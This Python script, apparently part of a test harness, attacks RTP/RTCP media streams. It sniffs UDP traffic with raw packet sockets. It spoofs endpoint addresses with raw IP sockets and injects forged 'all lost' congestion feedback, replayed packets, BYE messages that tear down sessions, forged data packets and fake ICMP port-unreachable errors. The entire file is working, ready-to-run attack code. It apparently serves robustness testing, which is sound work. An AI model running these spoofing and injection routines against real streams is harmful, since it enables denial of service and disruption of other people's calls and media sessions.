"""What attacks.sh has somebody do who does not belong to a stream.

    attacks.py tap INTERFACE FILE PACKETS               keeps so many UDP packets that pass, of each direction
    attacks.py off-path FILE SENDER RECEIVER OWN ROUNDS   forges, replays, spoofs; prints how many packets, by kind and target
    attacks.py on-path FILE SENDER RECEIVER             says BYE in the receiver's name, with the SSRC it has seen

SENDER and RECEIVER are ADDRESS:PORT, OWN is an address. Addresses of others are spoofed with raw sockets."""
import collections
import random
import socket
import struct
import sys

ETH_P_ALL, ETH_P_IP = 3, 0x0800  # only with the former is seen what leaves
FEEDBACK, BYE, APP = 205, 203, 204


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, target, protocol, payload):
    """The kernel fills in length, identification and checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0,
                       socket.inet_aton(source[0]), socket.inet_aton(target[0])) + payload


def udp(source, target, payload):
    header = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0)  # 0: no checksum
    return ip(source, target, socket.IPPROTO_UDP, header + payload)


def port_unreachable(source, target, quoted):
    rest = b"\0\0\0\0" + quoted[:28]
    head = struct.pack("!BBH", 3, 3, checksum(b"\3\3\0\0" + rest))
    return ip(source, target, socket.IPPROTO_ICMP, head + rest)


def tap(interface, path, packets):
    """A line for each packet: source address and port, payload."""
    counts = collections.Counter()
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL)) as sock, open(path, "w") as out:
        sock.bind((interface, 0))
        while len(counts) < 2 or min(counts.values()) < packets:
            packet, (_, protocol, *_) = sock.recvfrom(65536)
            if protocol != ETH_P_IP or packet[9] != socket.IPPROTO_UDP:
                continue
            source = socket.inet_ntoa(packet[12:16])
            port, = struct.unpack("!H", packet[20:22])
            counts[source] += 1
            if counts[source] <= packets:
                print(source, port, packet[28:].hex(), file=out)


def read_tap(path, source):
    with open(path) as lines:
        return [bytes.fromhex(payload) for address, _, payload in map(str.split, lines) if address == source[0]]


def with_random_ssrcs(payload, *offsets):
    changed = bytearray(payload)
    for offset in offsets:
        changed[offset:offset + 4] = random.randbytes(4)
    return bytes(changed)


def bye(ssrc):
    return struct.pack("!BBH4sBBH4s", 0x80, 201, 1, ssrc, 0x81, BYE, 1, ssrc)


def path_packet(subtype, ssrc):
    return struct.pack("!BBH4s4s8s", 0x80 | subtype, APP, 4, ssrc, b"TFRC", random.randbytes(8))


def all_lost(feedback):
    """The same, later than all others, as if nothing had come through."""
    changed = bytearray(feedback)
    changed[20:28] = struct.pack("!II", 1, 0xFFFFFFFF)  # X_recv, p
    changed[28 + 28:28 + 32] = struct.pack("!I", 0x7FFFFFFF)  # number
    return bytes(changed)


def two_in_sequence(data):
    """What it takes to be on probation, and to pass it."""
    seq, = struct.unpack("!H", data[2:4])
    return data, data[:2] + struct.pack("!H", (seq + 1) % 65536) + data[4:]


def off_path(path, sender, receiver, own_address, rounds):
    """Guessing is all that is left to who does not see the stream; what is replayed was leaked long ago."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    own = (own_address, 5004)
    feedbacks = [packet for packet in read_tap(path, receiver) if packet[1] == FEEDBACK]
    data = [packet for packet in read_tap(path, sender) if packet[1] == 33]
    sent = collections.Counter()

    def send(kind, packet, target):
        raw.sendto(packet, (target[0], 0))
        sent[kind, "sender" if target == sender else "receiver"] += 1

    for i in range(rounds):
        feedback, packet = feedbacks[i % len(feedbacks)], data[i % len(data)]
        for source in (own, receiver):
            send("forged", udp(source, sender, with_random_ssrcs(all_lost(feedback), 4, 8, 28 + 4)), sender)
            send("replayed", udp(source, sender, feedback), sender)
            send("forged", udp(source, sender, bye(random.randbytes(4))), sender)
            send("forged", udp(source, sender, path_packet(3, feedback[4:8])), sender)
        for source in (own, sender):
            for forged in two_in_sequence(with_random_ssrcs(packet, 8)):
                send("forged", udp(source, receiver, forged), receiver)
            send("forged", udp(source, receiver, bye(random.randbytes(4))), receiver)
            send("forged", udp(source, receiver, path_packet(2, random.randbytes(4))), receiver)
        send("leaked", udp(sender, receiver, path_packet(2, packet[8:12])), receiver)
        send("replayed", udp(own, receiver, packet), receiver)
        send("duplicate", udp(sender, receiver, packet), receiver)
        send("icmp", port_unreachable(receiver, sender, udp(sender, receiver, packet)), sender)
        send("icmp", port_unreachable(sender, receiver, udp(receiver, sender, feedback)), receiver)
    for (kind, target), n in sorted(sent.items()):
        print(kind, target, n)


def on_path(path, sender, receiver):
    ssrc = next(packet for packet in read_tap(path, receiver) if packet[1] == FEEDBACK)[4:8]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(udp(receiver, sender, bye(ssrc)), (sender[0], 0))


def end_point(text):
    address, port = text.split(":")
    return address, int(port)


if sys.argv[1] == "tap":
    tap(sys.argv[2], sys.argv[3], int(sys.argv[4]))
elif sys.argv[1] == "off-path":
    off_path(sys.argv[2], end_point(sys.argv[3]), end_point(sys.argv[4]), sys.argv[5], int(sys.argv[6]))
else:
    on_path(sys.argv[2], end_point(sys.argv[3]), end_point(sys.argv[4]))
